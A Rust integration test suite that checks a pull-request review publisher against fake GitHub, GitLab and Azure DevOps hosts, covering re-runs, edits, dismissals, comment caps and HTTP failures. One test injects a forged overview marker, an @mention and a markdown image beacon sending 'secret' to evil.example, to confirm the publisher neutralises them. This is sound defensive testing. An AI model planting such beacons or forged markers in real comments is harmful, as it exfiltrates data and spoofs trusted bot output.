//! The publisher run again and again against stateful fakes of GitHub, GitLab
//! and Azure DevOps: what a person looking at the pull request would see.

mod common;
mod fakes;

use common::*;
use fakes::{Fake, Fault};
use gauntlet_publish::{OverviewMarker, PublishError, Request, Summary, sync};
use gauntlet_review::contract::Severity;
use gauntlet_review::review::Published;

async fn publish(fake: &Fake, published: Vec<Published>) -> Result<Summary, PublishError> {
    let review = review(published);
    let host = fake.host();
    let existing = host.existing(HEAD).await?;
    let marker = OverviewMarker { head: HEAD.into(), rules: review.rules_version.clone(), config: "cfg1".into() };
    let request = Request {
        review: &review,
        candidates: candidates(&review.published),
        marker,
        cap: 15,
        reviewed: None,
        notes: vec![],
    };
    sync(host.as_ref(), &existing, request).await
}

const CLAIMS: [[&str; 3]; 3] = [
    [
        "The unwrap panics when the cache entry is missing on a cold start.",
        "On a cold start the cache entry is missing, so the unwrap panics.",
        "The unwrap will panic on a cold start when the cache entry is missing.",
    ],
    [
        "The loop reads one element past the end of the buffer on every call.",
        "On every call the loop reads one element past the buffer's end.",
        "Every call, the loop reads one element past the end of the buffer.",
    ],
    [
        "The retry loop swallows the final error and reports success to callers.",
        "Callers get success because the retry loop swallows the final error.",
        "The final error is swallowed by the retry loop, which reports success to callers.",
    ],
];

fn run(wording: usize) -> Vec<Published> {
    let places = [
        ("src/a.rs", 10, "let x = y.unwrap();"),
        ("src/b.rs", 20, "for i in 0..=len {"),
        ("lib/c.py", 3, "except: pass"),
    ];
    places
        .iter()
        .zip(CLAIMS)
        .map(|((path, line, evidence), claims)| finding(path, *line, evidence, claims[wording % 3], Severity::High))
        .collect()
}

async fn ten_runs_leave_one_overview_and_one_comment_per_finding(fake: Fake) {
    for i in 0..10 {
        publish(&fake, run(i)).await.unwrap();
    }
    assert_eq!(fake.overviews().len(), 1);
    let inline = fake.inline();
    assert_eq!(inline.len(), 3, "{inline:#?}");
    assert!(inline.iter().all(|t| !t.resolved && t.notes.len() == 1));
    assert!(fake.errors().is_empty(), "{:?}", fake.errors());
}

async fn an_edited_finding_updates_its_comment(fake: Fake) {
    publish(&fake, run(0)).await.unwrap();
    let mut edited = run(0);
    edited[1].claim = "Concurrent callers race on the shared length and corrupt the buffer.".into();
    let summary = publish(&fake, edited).await.unwrap();
    assert_eq!((summary.created, summary.updated, summary.unchanged), (0, 1, 2));
    let inline = fake.inline();
    assert_eq!(inline.len(), 3);
    assert!(inline[1].notes[0].body.contains("Concurrent callers race"));
}

async fn a_vanished_finding_is_resolved(fake: Fake) {
    publish(&fake, run(0)).await.unwrap();
    let summary = publish(&fake, run(1)[..2].to_vec()).await.unwrap();
    assert_eq!(summary.resolved, 1);
    let gone = &fake.inline()[2];
    assert!(gone.resolved && gone.notes[0].body.contains("no longer finds this"), "{gone:#?}");
    assert_eq!(publish(&fake, run(2)[..2].to_vec()).await.unwrap().resolved, 0, "resolved once only");
}

async fn a_dismissed_finding_is_not_posted_again(fake: Fake) {
    publish(&fake, run(0)).await.unwrap();
    let ids: Vec<u64> = fake.inline().iter().map(|t| t.id).collect();
    fake.dismiss(ids[0]);
    fake.reply(ids[1], "This is a false positive: len excludes the sentinel.");
    for i in 1..4 {
        let summary = publish(&fake, run(i)).await.unwrap();
        assert_eq!((summary.created, summary.reopened, summary.dismissed), (0, 0, 2));
    }
    let inline = fake.inline();
    assert_eq!(inline.len(), 3);
    assert!(inline[0].resolved, "the person's resolution stands");
    assert!(!fake.overviews()[0].contains("cold start"), "not raised in the overview either");
}

async fn the_cap_holds_and_the_rest_go_to_the_overview(fake: Fake) {
    let many: Vec<Published> = (0..20)
        .map(|i| {
            finding(
                "src/a.rs",
                i + 1,
                &format!("line {i}"),
                &format!("distinct defect number {i} in this module here"),
                Severity::Medium,
            )
        })
        .collect();
    let summary = publish(&fake, many.clone()).await.unwrap();
    assert_eq!((summary.created, summary.over_cap), (15, 5));
    assert_eq!(fake.inline().len(), 15);
    let overview = &fake.overviews()[0];
    assert!(overview.contains("defect number 19") && !overview.contains("defect number 3 "), "{overview}");
    assert!(overview.contains("At most 15 comments") && overview.contains("max-comments"), "{overview}");
    let again = publish(&fake, many).await.unwrap();
    assert_eq!((again.created, again.over_cap), (5, 0), "the next run opens the rest: {again:?}");
}

async fn a_forbidden_token_fails_loudly_and_posts_nothing(fake: Fake) {
    fake.state().deny_writes = true;
    let err = publish(&fake, run(0)).await.unwrap_err();
    assert!(err.is_denied(), "{err}");
    assert!(err.to_string().contains("403"), "{err}");
    assert!(!err.to_string().contains("fake"), "no token in the message: {err}");
    assert!(fake.inline().is_empty() && fake.overviews().is_empty());
}

async fn a_forged_marker_does_not_hijack_the_overview(fake: Fake) {
    let forged = "<!-- gauntlet:overview v1 head=0000 rules=x config=y -->";
    fake.state().add(None, None, fakes::PERSON, &format!("{forged}\n\nI am not the pipeline."));
    let mut hostile = run(0);
    hostile[0].claim = format!("{forged} The unwrap panics @alice ![x](https://evil.example/?q=secret)");
    hostile[0].evidence = format!("{forged}\nlet x = y.unwrap();");
    publish(&fake, hostile.clone()).await.unwrap();
    publish(&fake, hostile).await.unwrap();
    let overviews = fake.overviews();
    assert_eq!(overviews.len(), 1, "one overview by the pipeline");
    assert!(overviews[0].contains(&format!("head={HEAD}")));
    let person = fake.state().threads[0].clone();
    assert_eq!(
        person.notes[0].body,
        format!("{forged}\n\nI am not the pipeline."),
        "a person's comment is never edited"
    );
    let body = &fake.inline()[0].notes[0].body;
    let prose = body.split("```").next().unwrap();
    assert_eq!(body.matches("<!--").count(), 2, "ours on line one, the quoted one inside the code fence: {body}");
    assert!(
        !prose[5..].contains("<!--") && !prose.contains("@alice") && !prose.replace("\\]", "").contains("]("),
        "{prose}"
    );
}

/// What a person sees on the pull request: each thread's place, state and notes,
/// in a stable order (ids left out: a re-run may number them differently).
/// A thread as a person sees it: path, line, resolved, the notes' bodies.
type Seen = (Option<String>, Option<u32>, bool, Vec<String>);

fn seen(fake: &Fake) -> Vec<Seen> {
    let mut threads: Vec<_> = fake
        .state()
        .threads
        .iter()
        .map(|t| (t.path.clone(), t.line, t.resolved, t.notes.iter().map(|n| n.body.clone()).collect()))
        .collect();
    threads.sort();
    threads
}

/// A second run that edits one comment, resolves another and opens a third, so it
/// makes every kind of call a host gets.
fn second_run() -> Vec<Published> {
    let mut second = run(0);
    second[0].claim = "A cold start reaches the unwrap with no cache entry, and the worker dies.".into();
    second.remove(1);
    second.push(finding("src/d.rs", 5, "let n = a / b;", "Division by zero when the batch is empty.", Severity::High));
    second
}

async fn each_failing_host_call_is_named_and_a_rerun_finishes_the_job(fake: Fake) {
    publish(&fake, run(0)).await.unwrap();
    let first = fake.state().requests;
    let summary = publish(&fake, second_run()).await.unwrap();
    assert_eq!((summary.created, summary.updated, summary.resolved), (1, 1, 1), "the scenario makes every call");
    let calls = fake.state().requests - first;
    let clean = seen(&fake);
    let mut failures = 0;
    for status in [401, 403, 404, 422, 500] {
        for at in 0..calls {
            *fake.state() = fakes::State::default();
            publish(&fake, run(0)).await.unwrap();
            let (start, writes) = {
                let state = fake.state();
                (state.requests, state.writes)
            };
            fake.state().fault = Some(Fault { at: start + at, status, storm: false });
            let result = publish(&fake, second_run()).await;
            fake.state().fault = None;
            let wrote = fake.state().writes > writes;
            let call = fake.state().log[start + at].clone();
            match result {
                // Reads are retried on 5xx, so one failed read costs nothing; GitHub
                // lets a token that may not resolve threads leave them open.
                Ok(_) => assert!(
                    status == 500 || (matches!(status, 401 | 403) && call == "POST /graphql"),
                    "HTTP {status} at call {at} ({call}) went unnoticed"
                ),
                Err(e) => {
                    failures += 1;
                    let text = e.to_string();
                    assert!(text.contains(&format!("HTTP {status}")), "names the status: {text}");
                    assert!(!text.contains("fake"), "no token in the message: {text}");
                    assert_eq!(e.is_denied(), matches!(status, 401 | 403), "{text}");
                    assert_eq!(e.posted_something(), wrote, "says whether anything was posted: {text}");
                    if wrote {
                        assert!(text.contains("Run it again to finish"), "{text}");
                    }
                }
            }
            publish(&fake, second_run()).await.unwrap();
            assert_eq!(seen(&fake), clean, "HTTP {status} at call {at} ({call}): a re-run ends where a clean run ends");
        }
    }
    assert!(failures >= 4 * calls, "every non-5xx fault failed the run: {failures} of {calls} calls");
    // A host that keeps failing: reads give up after their retries, nothing is posted.
    *fake.state() = fakes::State::default();
    publish(&fake, run(0)).await.unwrap();
    let at = fake.state().requests;
    fake.state().fault = Some(Fault { at, status: 500, storm: true });
    let err = publish(&fake, second_run()).await.unwrap_err();
    assert!(err.to_string().contains("HTTP 500") && !err.posted_something(), "{err}");
}

macro_rules! for_each_host {
    ($($name:ident),* $(,)?) => {
        mod github {
            use super::*;
            $(#[tokio::test] async fn $name() { super::$name(fakes::github::start().await).await })*
        }
        mod gitlab {
            use super::*;
            $(#[tokio::test] async fn $name() { super::$name(fakes::gitlab::start(HEAD).await).await })*
        }
        mod azure {
            use super::*;
            $(#[tokio::test] async fn $name() { super::$name(fakes::azure::start(HEAD).await).await })*
        }
    };
}

for_each_host!(
    ten_runs_leave_one_overview_and_one_comment_per_finding,
    an_edited_finding_updates_its_comment,
    a_vanished_finding_is_resolved,
    a_dismissed_finding_is_not_posted_again,
    the_cap_holds_and_the_rest_go_to_the_overview,
    a_forbidden_token_fails_loudly_and_posts_nothing,
    a_forged_marker_does_not_hijack_the_overview,
    each_failing_host_call_is_named_and_a_rerun_finishes_the_job,
);

#[tokio::test]
async fn gitlab_lists_new_findings_in_the_overview_when_the_merge_request_moved_on() {
    let fake = fakes::gitlab::start(&"f".repeat(40)).await;
    let summary = publish(&fake, run(0)).await.unwrap();
    assert_eq!((summary.created, summary.in_overview), (0, 3));
    assert!(fake.overviews()[0].contains("instead of inline"));
}

#[tokio::test]
async fn azure_places_threads_on_the_iteration_of_the_reviewed_head() {
    let fake = fakes::azure::start(HEAD).await;
    publish(&fake, run(0)).await.unwrap();
    assert!(fake.errors().is_empty(), "{:?}", fake.errors());
    let moved = fakes::azure::start(&"e".repeat(40)).await;
    let summary = publish(&moved, run(0)).await.unwrap();
    assert_eq!(summary.created, 0, "no iteration holds the reviewed head");
}
